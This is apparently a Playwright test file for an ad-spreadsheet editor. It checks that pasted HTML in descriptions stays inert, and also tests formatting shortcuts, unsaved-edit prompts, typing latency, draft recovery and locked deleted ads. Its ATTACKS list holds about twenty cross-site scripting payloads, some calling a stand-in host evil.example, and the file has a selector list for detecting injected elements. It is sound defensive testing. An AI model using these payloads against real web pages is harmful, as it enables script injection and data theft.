import type { Page } from '@playwright/test';
import { expect, test } from '@playwright/test';
import { testIds } from '../../renderer/core/test-ids.ts';
import type { Sandbox } from '../../sandbox/index.ts';
import { startSandbox } from '../../sandbox/index.ts';
import { faultsOf } from '../support/accessibility.ts';
import { ask } from '../support/ask.ts';
import { connect } from '../support/connect.ts';
import { cell, cellTip, type Editable, editableAds, focusCell } from '../support/grid.ts';
import type { Recorder } from '../support/recorder.ts';
import { startRecorder } from '../support/recorder.ts';
import { allThere, edit, idle, openPanel, SHOP } from '../support/shop.ts';
import type { Window } from '../support/window.ts';
import { openAdsheet } from '../support/window.ts';

// Descriptions carry HTML that people paste from anywhere. Here it is as hostile as it gets, and all of it stays text.

const ADS = 40;

/** Each tries to leave a mark (`globalThis.executed`), to ask the network, or to change the page. */
const ATTACKS: readonly string[] = [
  '<script>globalThis.executed = 1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="globalThis.executed = 2">',
  '<svg onload="globalThis.executed = 3"><script>globalThis.executed = 4</script></svg>',
  '<a href="javascript:globalThis.executed = 5" autofocus onfocus="globalThis.executed = 6">click me</a>',
  '<iframe src="https://evil.example/frame" srcdoc="<script>top.executed = 7</script>"></iframe>',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button formaction="javascript:globalThis.executed = 8">go</button></form>',
  '<base href="https://evil.example/">',
  '<object data="data:text/html,<script>parent.executed = 9</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=globalThis.executed=10>">',
  '<b onmouseover="globalThis.executed = 11" style="background: url(https://evil.example/b)">bold</b>',
  '<li style="list-style: url(https://evil.example/l)">item</li>',
  '&lt;script&gt;globalThis.executed = 12&lt;/script&gt;',
  '&#x3c;img src=x onerror=globalThis.executed=13&#x3e;',
  '<<a>img src=x onerror="globalThis.executed = 14">',
  '<scr<script>ipt>globalThis.executed = 15</scr</script>ipt>',
  '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.executed = 16"></style></mglyph></table>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.executed=17>">',
  '<!--><img src=x onerror="globalThis.executed = 18">-->',
  '<template><img src=x onerror="globalThis.executed = 19"></template>',
];
const HOSTILE = `Before\n${ATTACKS.join('\n')}\nAfter`;
const HOSTILE_TITLE = '<img src=x onerror=globalThis.executed=20> <b>Tafel</b>';

let sandbox: Sandbox;
let recorder: Recorder;
let adsheet: Window;
let ads: readonly Editable[];

type Watch = { readonly asked: string[]; readonly dialogs: string[] };
let watch: Watch;

const watchPage = async (page: Page): Promise<Watch> => {
  const seen: Watch = { asked: [], dialogs: [] };
  page.on('request', (request) => {
    if (!request.url().startsWith('adsheet://app/')) seen.asked.push(request.url());
  });
  page.on('dialog', async (dialog) => {
    seen.dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  page.on('framenavigated', (frame) => seen.asked.push(frame.url()));
  await page.evaluate(() => {
    const stopped: string[] = [];
    Reflect.set(globalThis, 'stopped', stopped);
    document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.violatedDirective));
  });
  return seen;
};

/** What in the page no text may ever become. */
const FOREIGN =
  'iframe, object, embed, base, form, math, template, meta[http-equiv], [onerror], [onload], [onfocus], [onmouseover], ' +
  '[srcdoc], [href^="javascript:"], [src*="evil"], body script, svg script, body style:not([nonce]), [style*="evil"]';

const expectNothingHappened = async (page: Page): Promise<void> => {
  const found = await page.evaluate(
    (foreign) => ({
      executed: Reflect.get(globalThis, 'executed') ?? null,
      stopped: Reflect.get(globalThis, 'stopped'),
      foreign: Array.from(document.querySelectorAll(foreign), (element) => element.outerHTML.slice(0, 200)),
    }),
    FOREIGN,
  );
  expect(found).toEqual({ executed: null, stopped: [], foreign: [] });
  expect(watch).toEqual({ asked: [], dialogs: [] });
};

const wholeText = async (page: Page, { key }: Editable, field: string): Promise<unknown> =>
  (await ask(page, 'ads.get', { account: SHOP, key })).ad.local[field];

const setField = (page: Page, { key }: Editable, field: string, value: string): Promise<void> =>
  edit(page, [{ key, field, value }]);

const openEditor = async (page: Page, ad: Editable) => {
  await focusCell(page, ad.key, 'description');
  await page.keyboard.press('F2');
  const text = page.getByTestId(testIds.longText);
  await expect(text).toBeVisible();
  return text;
};

const nth = (at: number): Editable => {
  const ad = ads[at];
  if (!ad) throw new Error('the sandbox has too few active ads');
  return ad;
};

test.beforeAll(async () => {
  sandbox = await startSandbox({ ads: ADS, autoConsent: true });
  recorder = await startRecorder(sandbox.baseUrl);
  adsheet = await openAdsheet();
  await connect(adsheet.page, { ...sandbox, baseUrl: recorder.address });
  await allThere(adsheet.page, ADS);
  await idle(adsheet.page);
  ads = await editableAds(adsheet.page);
  watch = await watchPage(adsheet.page);
});

test.afterAll(async () => {
  await adsheet.close();
  await recorder.close();
  await sandbox.close();
});

test('hostile HTML does nothing in the editor, preview, grid, panel and review, and is sent as it was typed', async () => {
  const { page } = adsheet;
  const ad = nth(0);
  const text = await openEditor(page, ad);
  await text.fill(HOSTILE);
  const preview = page.getByTestId(testIds.preview);
  await expect(preview).toContainText('After');
  await expect(preview).toContainText('<script>globalThis.executed = 12</script>');
  await expect(preview.locator('b')).toHaveText('bold');
  const elements = await preview.evaluate((page) =>
    Array.from(page.querySelectorAll('.preview-text *'), ({ localName, attributes }) => [
      localName,
      attributes.length,
    ]),
  );
  const allowed = ['i', 'em', 'b', 'strong', 'u', 'ul', 'li', 'br'];
  expect(elements.filter(([name, count]) => !allowed.includes(String(name)) || count !== 0)).toEqual([]);
  await expect(page.getByTestId(testIds.strippedLine)).toContainText('<script> (');
  expect(await faultsOf(page, '.dialog')).toEqual([]);
  await expectNothingHappened(page);
  await page.keyboard.press('Control+Enter');
  await expect(text).toBeHidden();
  expect(await wholeText(page, ad, 'description')).toBe(HOSTILE);

  await setField(page, ad, 'title', HOSTILE_TITLE);
  await expect(cell(page, ad.key, 'title')).toContainText('<img src=x');
  await expect(cell(page, ad.key, 'description')).toContainText('<script>globalThis.executed');
  await cell(page, ad.key, 'title').hover();
  await expect(cellTip(page)).toContainText('<img');
  await openPanel(page);
  await expect(page.getByTestId(testIds.right)).toContainText('<script>globalThis.executed');
  await expectNothingHappened(page);

  await page.getByTestId(testIds.command('review')).click();
  const item = page.getByTestId(testIds.reviewItem(ad.key));
  await expect(item).toContainText('onerror');
  await expectNothingHappened(page);
  await page.getByTestId(testIds.push).click();
  await expect(page.getByTestId(testIds.pushResult)).toContainText('1', { timeout: 30_000 });
  await expectNothingHappened(page);
  const put = recorder.sent().find(({ method, path }) => method === 'PUT' && path.includes(String(ad.id)));
  expect(JSON.parse(put?.body ?? '{}')).toMatchObject({ description: HOSTILE, title: HOSTILE_TITLE });
  await page.getByTestId(testIds.tab('ads')).click();
});

test('the formatting keys write the tags the marketplace keeps, and undo takes each back', async () => {
  const { page } = adsheet;
  const text = await openEditor(page, nth(1));
  await text.fill('solid teak\nas new');
  const select = (start: number, end: number) =>
    text.evaluate((box: HTMLTextAreaElement, range) => box.setSelectionRange(range[0], range[1]), [
      start,
      end,
    ] as const);
  await select(6, 10);
  await page.keyboard.press('Control+b');
  await expect(text).toHaveValue('solid <b>teak</b>\nas new');
  await page.keyboard.press('Control+i');
  await expect(text).toHaveValue('solid <b><i>teak</i></b>\nas new');
  await page.keyboard.press('Control+z');
  await expect(text).toHaveValue('solid <b>teak</b>\nas new');
  await page.keyboard.press('Control+y');
  await expect(text).toHaveValue('solid <b><i>teak</i></b>\nas new');
  await select(12, 16);
  await page.keyboard.press('Control+u');
  await expect(text).toHaveValue('solid <b><i><u>teak</u></i></b>\nas new');
  await select(0, 0);
  await page.keyboard.press('Control+a');
  await page.keyboard.press('Control+Shift+L');
  await expect(text).toHaveValue('<ul>\n<li>solid <b><i><u>teak</u></i></b></li>\n<li>as new</li>\n</ul>');
  const preview = page.getByTestId(testIds.preview);
  await expect(preview.locator('li')).toHaveText(['solid teak', 'as new']);
  await expect(preview.locator('u')).toHaveText('teak');
  await page.keyboard.press('Control+End');
  await page.keyboard.type('<p class="x">More</p>');
  await expect(page.getByTestId(testIds.strippedLine)).toContainText('<p>');
  await page.getByTestId(testIds.strip).click();
  await expect(text).toHaveValue(/<\/ul>More$/);
  await expect(page.getByTestId(testIds.strippedLine)).toBeHidden();
  await page.keyboard.press('Control+z');
  await expect(text).toHaveValue(/<p class="x">More<\/p>$/);
  await page.keyboard.press('Escape');
  await page.getByTestId(testIds.longTextDiscard).click();
  await expect(text).toBeHidden();
});

test('leaving asks only where something was typed, and what a pull brings meanwhile is shown first', async () => {
  const { page } = adsheet;
  const ad = nth(2);
  const text = await openEditor(page, ad);
  await page.keyboard.press('Escape');
  await expect(text).toBeHidden();

  await openEditor(page, ad);
  await text.fill('Mine, typed here.');
  await page.keyboard.press('Escape');
  await expect(page.getByTestId(testIds.longTextStay)).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(text).toBeFocused();
  await expect(text).toHaveValue('Mine, typed here.');

  await setField(page, ad, 'description', 'Theirs, made elsewhere.');
  const take = page.getByTestId(testIds.elsewhereTake);
  await expect(take).toBeVisible();
  await page.keyboard.press('Control+Enter');
  await expect(page.getByTestId(testIds.elsewhereKeep)).toBeFocused();
  expect(await wholeText(page, ad, 'description')).toBe('Theirs, made elsewhere.');
  await page.keyboard.press('Enter');
  await expect(take).toBeHidden();
  await page.keyboard.press('Control+Enter');
  await expect(text).toBeHidden();
  expect(await wholeText(page, ad, 'description')).toBe('Mine, typed here.');
});

test('typing in a description of ten thousand characters never waits for its preview', async () => {
  const { page } = adsheet;
  const text = await openEditor(page, nth(3));
  await text.fill('<b>Teak</b> table &amp; chairs.<br>\n'.repeat(300).slice(0, 10_000));
  await text.press('Control+End');
  await page.evaluate(() => {
    const keys: number[] = [];
    Reflect.set(globalThis, 'keyTimes', keys);
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries() as PerformanceEventTiming[])
        if (entry.name === 'keypress') keys.push(entry.processingEnd - entry.processingStart);
    }).observe({ type: 'event', durationThreshold: 16 } as PerformanceObserverInit);
  });
  await page.keyboard.type('the quick brown fox jumps over the lazy dog', { delay: 30 });
  await expect(page.getByTestId(testIds.preview)).toContainText('the lazy dog');
  const times = await page.evaluate(() => Reflect.get(globalThis, 'keyTimes') as number[]);
  const sorted = times.toSorted((one, other) => one - other);
  const median = sorted[Math.floor(sorted.length / 2)] ?? 0;
  console.log(
    `a key takes ${median.toFixed(1)} ms of the page’s thread, ${(sorted.at(-1) ?? 0).toFixed(1)} at most`,
  );
  // The middle one: beside other work of a busy machine a single key may wait.
  expect(median).toBeLessThan(50);
  await page.keyboard.press('Escape');
  await page.getByTestId(testIds.longTextDiscard).click();
});

test('what was typed is there again after the window went away in the middle of it', async () => {
  const { page } = adsheet;
  const ad = nth(4);
  const text = await openEditor(page, ad);
  const before = await text.inputValue();
  await text.fill('Half a sentence');
  await page.reload();
  await allThere(page, ADS);
  await openEditor(page, ad);
  await expect(text).toHaveValue('Half a sentence');
  await page.getByTestId(testIds.unkeptDiscard).click();
  await expect(text).toHaveValue(before);
  await page.keyboard.press('Escape');
  await expect(text).toBeHidden();
});

test('the text of an ad that is to be deleted is read whole, and says why it stays as it is', async () => {
  const { page } = adsheet;
  const ad = nth(5);
  await ask(page, 'edits.status', { account: SHOP, select: { keys: [ad.key] }, status: 'DELETED' });
  await focusCell(page, ad.key, 'title');
  await expect(cell(page, ad.key, 'title')).toHaveClass(/cell-locked/);
  const text = await openEditor(page, ad);
  await expect(text).toHaveValue(String(await wholeText(page, ad, 'description')));
  await expect(text).not.toBeEditable();
  await expect(page.getByRole('dialog')).toContainText('This ad will be deleted');
  await page.keyboard.press('Escape');
  await expect(text).toBeHidden();
  await expect(cell(page, ad.key, 'description')).toBeFocused();
});
